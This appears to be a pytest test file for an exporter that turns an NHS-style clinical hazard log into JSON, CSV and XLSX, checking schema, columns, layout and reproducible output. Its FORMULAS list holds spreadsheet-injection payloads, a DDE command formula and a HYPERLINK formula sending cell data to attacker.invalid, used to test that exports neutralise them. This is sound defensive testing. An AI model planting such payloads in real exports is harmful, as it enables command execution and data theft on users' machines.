"""The hazard log as data (nhs_assurance.core.hazard_export): ``hazards.json`` and its schema,
the CSV file and the XLSX workbook a Clinical Safety Officer files or sends."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime

import jsonschema
import openpyxl
import pytest
from hazard_factory import hazard
from nhs_assurance.core.hazard_export import (
    EPOCH,
    HEADER,
    XLSX_CELL_LIMIT,
    XLSX_CUT_MARK,
    hazards_csv,
    hazards_document,
    hazards_json,
    hazards_xlsx,
    schema,
    spreadsheet_safe,
)
from nhs_assurance.core.hazard_record import HazardRecord
from nhs_assurance.core.risk import DEFAULT_MATRIX, LIKELIHOODS, SEVERITIES, matrix_from_config

#: What an attacker writes in a title or a text: each would run as a formula in a spreadsheet.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")',
]


def page_uri(docname: str) -> str:
    return f"{docname}.html"


def sample_log() -> list[HazardRecord]:
    """A small fictional log: rated and unrated, with and without a residual assessment."""
    return [
        hazard(
            "HAZ-901",
            title="A referral is sent to a fictional service that has closed",
            description="Free text about the hazard.",
            causes="• The directory still lists the service.\n• A cached result is shown.",
            effect="The referral waits, unread.",
            harm="Delayed treatment.",
            existing_controls="The service page says it is closed.",
            additional_controls="• Design: the search lists only open services.",
            evidence="Fictional test report TR-901.",
            status="closed",
            standards=("XYZ0001", "XYZ0002"),
        ),
        hazard(
            "HAZ-902",
            docname="guides/other",
            residual_severity="",
            residual_likelihood="",
            residual_rating=0,
            owner="",
        ),
        hazard(
            "HAZ-903",
            title="",
            initial_severity="",
            initial_likelihood="",
            initial_rating=0,
            standards=(),
        ),
    ]


# -- hazards.json -------------------------------------------------------------------------------


def test_hazards_json_follows_its_schema() -> None:
    document = json.loads(hazards_json(sample_log(), page_uri))
    jsonschema.Draft202012Validator.check_schema(schema())
    jsonschema.Draft202012Validator(schema()).validate(document)


def test_hazards_json_shape() -> None:
    document = hazards_document(sample_log(), page_uri)
    assert list(document) == ["schema_version", "hazards"]
    assert document["schema_version"] == 1
    first, second, third = document["hazards"]
    assert first == {
        "id": "HAZ-901",
        "title": "A referral is sent to a fictional service that has closed",
        "page": "safety.html",
        "anchor": "haz-901",
        "status": "closed",
        "owner": "Fictional Clinical Safety Officer",
        "initial": {"severity": "Major", "likelihood": "Low", "rating": 3},
        "residual": {"severity": "Major", "likelihood": "Very low", "rating": 2},
        "standards": ["XYZ0001", "XYZ0002"],
        "description": "Free text about the hazard.",
        "causes": "• The directory still lists the service.\n• A cached result is shown.",
        "effect": "The referral waits, unread.",
        "harm": "Delayed treatment.",
        "existing_controls": "The service page says it is closed.",
        "additional_controls": "• Design: the search lists only open services.",
        "evidence": "Fictional test report TR-901.",
    }
    assert (second["page"], second["residual"], second["owner"]) == (
        "guides/other.html",
        None,
        None,
    )
    # A hazard whose author left out the title or the initial assessment stays in the log.
    assert (third["title"], third["initial"]) == (None, None)


def test_hazards_json_keeps_the_order_given() -> None:
    records = sample_log()[::-1]
    assert [h["id"] for h in hazards_document(records, page_uri)["hazards"]] == [
        "HAZ-903", "HAZ-902", "HAZ-901",
    ]  # fmt: skip


def test_an_empty_log() -> None:
    assert json.loads(hazards_json([], page_uri)) == {"schema_version": 1, "hazards": []}
    assert list(csv.reader(io.StringIO(hazards_csv([], page_uri)))) == [list(HEADER)]
    sheet = openpyxl.load_workbook(io.BytesIO(hazards_xlsx([], page_uri)))["Hazard log"]
    assert list(sheet.iter_rows(values_only=True)) == [tuple(HEADER)]


def test_hazards_json_text_is_stable_utf8() -> None:
    text = hazards_json(sample_log(), page_uri)
    assert text.endswith("}\n")
    assert "•" in text  # kept as written, not \u2022
    assert text == hazards_json(sample_log(), page_uri)


@pytest.mark.parametrize(
    "bad",
    [
        {"rating": 6},
        {"severity": "Severe"},
        {"likelihood": "very low"},  # always spelt as the standards do
    ],
)
def test_the_schema_refuses_an_assessment_off_the_matrix(bad: dict) -> None:
    document = hazards_document(sample_log(), page_uri)
    document["hazards"][0]["initial"].update(bad)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema(), cls=jsonschema.Draft202012Validator)


def test_the_schema_refuses_an_unknown_status_or_field() -> None:
    document = hazards_document(sample_log(), page_uri)
    document["hazards"][0]["status"] = "done"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema(), cls=jsonschema.Draft202012Validator)
    document = hazards_document(sample_log(), page_uri)
    document["hazards"][0]["severity"] = "Major"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema(), cls=jsonschema.Draft202012Validator)


# -- CSV ----------------------------------------------------------------------------------------


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_round_trip() -> None:
    rows = csv_rows(hazards_csv(sample_log(), page_uri))
    assert [row["ID"] for row in rows] == ["HAZ-901", "HAZ-902", "HAZ-903"]
    first = rows[0]
    assert first["Title"] == "A referral is sent to a fictional service that has closed"
    assert (
        first["Causes"] == "• The directory still lists the service.\n• A cached result is shown."
    )
    assert (first["Initial severity"], first["Initial likelihood"], first["Initial rating"]) == (
        "Major", "Low", "3",
    )  # fmt: skip
    assert first["Initial rating meaning"] == (
        "undesirable, acceptable only when further reduction is impractical"
    )
    assert first["Residual rating"] == "2"
    assert first["Residual rating meaning"] == (
        "acceptable where the cost of further reduction outweighs the benefits gained"
    )
    assert (first["Status"], first["Standards"]) == ("closed", "XYZ0001, XYZ0002")
    assert first["Page"] == "safety.html#haz-901"
    assert rows[1]["Residual rating"] == rows[1]["Residual severity"] == ""
    assert rows[2]["Initial rating"] == rows[2]["Title"] == ""


def test_csv_columns_follow_a_hazard_log() -> None:
    header = next(csv.reader(io.StringIO(hazards_csv([], page_uri))))
    assert header == [
        "ID", "Title", "Description", "Causes", "Effect", "Harm", "Existing controls",
        "Initial severity", "Initial likelihood", "Initial rating", "Initial rating meaning",
        "Additional controls", "Evidence",
        "Residual severity", "Residual likelihood", "Residual rating", "Residual rating meaning",
        "Status", "Owner", "Standards", "Page",
    ]  # fmt: skip


def test_csv_uses_the_configured_meanings() -> None:
    config = DEFAULT_MATRIX.to_config()
    config["meanings"][3] = "fictional meaning of three"
    rows = csv_rows(hazards_csv(sample_log(), page_uri, matrix_from_config(config)))
    assert rows[0]["Initial rating meaning"] == "fictional meaning of three"


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_never_holds_a_formula(formula: str) -> None:
    records = [hazard("HAZ-901", title=formula, owner=formula, causes=formula)]
    row = csv_rows(hazards_csv(records, page_uri))[0]
    for column in ("Title", "Owner", "Causes"):
        assert row[column] == "'" + formula
    # Checked on every cell of the file, as a spreadsheet would read it.
    for cell in (c for r in csv.reader(io.StringIO(hazards_csv(records, page_uri))) for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("Plain text", "Plain text"),
        ("a = b", "a = b"),
        ("", ""),
        ("'quoted", "'quoted"),
        ("• item", "• item"),
    ],
)
def test_spreadsheet_safe(text: str, expected: str) -> None:
    assert spreadsheet_safe(text) == expected


def test_csv_quotes_commas_quotes_and_line_breaks() -> None:
    title = 'A "quoted", comma\nand a line break'
    row = csv_rows(hazards_csv([hazard("HAZ-901", title=title)], page_uri))[0]
    assert row["Title"] == title


# -- XLSX ---------------------------------------------------------------------------------------


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_round_trip_matches_csv() -> None:
    log = sample_log()
    sheet = workbook(hazards_xlsx(log, page_uri))["Hazard log"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == tuple(HEADER)
    expected = list(csv.reader(io.StringIO(hazards_csv(log, page_uri))))[1:]
    for got, want in zip(rows[1:], expected, strict=True):
        assert ["" if v is None else str(v) for v in got] == want
    # Ratings are numbers a spreadsheet can sort and filter.
    assert rows[1][HEADER.index("Initial rating")] == 3


def test_xlsx_layout() -> None:
    sheet = workbook(hazards_xlsx(sample_log(), page_uri))["Hazard log"]
    assert sheet.freeze_panes == "B2"  # the header row and the ID column stay in view
    assert sheet.auto_filter.ref == "A1:U4"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["A"].width == 12
    assert sheet.column_dimensions["B"].width == 40
    assert sheet["D2"].alignment.wrap_text  # running text wraps
    assert sheet.page_setup.orientation == "landscape"


def test_xlsx_matrix_sheet_is_the_issue_table_with_counts() -> None:
    book = workbook(hazards_xlsx(sample_log(), page_uri))
    assert book.sheetnames == ["Hazard log", "Risk matrix"]
    rows = list(book["Risk matrix"].iter_rows(values_only=True))
    assert rows[1] == ("Likelihood \\ Severity", *SEVERITIES)
    grid = {row[0]: row[1:] for row in rows[2:7]}
    assert list(grid) == list(reversed(LIKELIHOODS))  # highest first, as the standards print it
    for likelihood, severity, rating in DEFAULT_MATRIX.cells():
        assert grid[likelihood][SEVERITIES.index(severity)] == rating
    meanings = {row[0]: row[1] for row in rows if isinstance(row[0], int)}
    assert meanings == {r: DEFAULT_MATRIX.meaning(r) for r in range(1, 6)}
    texts = [row[0] for row in rows]
    initial = texts.index("Number of hazards by initial assessment")
    counts = {row[0]: row[1:] for row in rows[initial + 2 : initial + 7]}
    assert counts["Low"] == (0, 0, 0, 2, 0)  # HAZ-901 and HAZ-902: Major, Low
    assert sum(sum(row) for row in counts.values()) == 2
    assert "Without a valid initial assessment: 1" in texts
    assert "Without a valid residual assessment: 1" in texts


@pytest.mark.parametrize("formula", [*FORMULAS, "#N/A", "#REF!"])
def test_xlsx_never_holds_a_formula_or_an_error(formula: str) -> None:
    data = hazards_xlsx([hazard("HAZ-901", title=formula, causes=formula)], page_uri)
    book = workbook(data)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), cell.coordinate
    sheet = book["Hazard log"]
    # Shown as written (a line break as LF), kept as text when edited.
    shown = formula.replace("\r", "\n")
    assert sheet["B2"].value == shown
    assert sheet["D2"].value == shown
    assert sheet["B2"].quotePrefix == shown.startswith(("=", "+", "-", "@", "\t"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_xlsx_carries_control_characters_visibly() -> None:
    # XML cannot carry most C0 control characters: openpyxl would refuse the whole workbook.
    title = "Fictional\x00hazard\x1b[31m with\x0bcontrols"
    sheet = workbook(hazards_xlsx([hazard("HAZ-901", title=title)], page_uri))["Hazard log"]
    assert sheet["B2"].value == "Fictional\ufffdhazard\ufffd[31m with\ufffdcontrols"


def test_xlsx_cuts_text_beyond_a_cell_with_a_mark() -> None:
    long_text = "x" * (XLSX_CELL_LIMIT + 10)
    sheet = workbook(hazards_xlsx([hazard("HAZ-901", causes=long_text)], page_uri))["Hazard log"]
    value = sheet["D2"].value
    assert len(value) == XLSX_CELL_LIMIT
    assert value.endswith(XLSX_CUT_MARK)
    at_limit = "y" * XLSX_CELL_LIMIT
    sheet = workbook(hazards_xlsx([hazard("HAZ-901", causes=at_limit)], page_uri))["Hazard log"]
    assert sheet["D2"].value == at_limit


def test_xlsx_bytes_are_the_same_every_build() -> None:
    first = hazards_xlsx(sample_log(), page_uri)
    second = hazards_xlsx(sample_log(), page_uri)
    assert first == second
    # Not by luck of the clock: every date in the file is the fixed one.
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    properties = workbook(first).properties
    assert properties.created == properties.modified == EPOCH.replace(tzinfo=None)


def test_xlsx_carries_the_date_it_is_given() -> None:
    when = datetime.fromtimestamp(1_700_000_000, tz=UTC)  # a SOURCE_DATE_EPOCH
    data = hazards_xlsx(sample_log(), page_uri, when=when)
    assert data == hazards_xlsx(sample_log(), page_uri, when=when)
    assert data != hazards_xlsx(sample_log(), page_uri)
    properties = workbook(data).properties
    assert properties.created == properties.modified == datetime(2023, 11, 14, 22, 13, 20)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2023, 11, 14, 22, 13, 20)}


def test_xlsx_changes_when_the_log_does() -> None:
    log = sample_log()
    changed = [log[0]._replace(initial_likelihood="Medium"), *log[1:]]
    assert hazards_xlsx(log, page_uri) != hazards_xlsx(changed, page_uri)
